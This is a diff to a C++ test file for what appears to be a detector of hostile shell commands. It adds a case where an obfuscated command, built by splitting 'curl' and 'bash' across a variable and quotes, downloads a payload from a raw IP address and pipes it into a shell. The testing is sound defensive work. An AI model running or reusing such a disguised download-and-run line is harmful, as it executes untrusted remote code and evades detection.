@@ -107,6 +107,9 @@ TEST_CASE("harmless commands in front of a disguised attack do not hide it") {
   CHECK(isFound(attack, "exec.download-and-run"));
   CHECK(isFound(installers + attack, "exec.download-and-run"));
   CHECK(isFound(installers + commands + attack, "exec.download-and-run"));
+  const std::string name(100, 'c');
+  CHECK(isFound(name + "=cur; \"${" + name + "}l\" -s http://45.77.12.9/x | ba\"\"sh\n",
+                "exec.download-and-run"));
   CHECK(isFound(shell, "exec.reverse-shell"));
   CHECK(isFound(commands + shell, "exec.reverse-shell"));
   // Patterns alone find these.
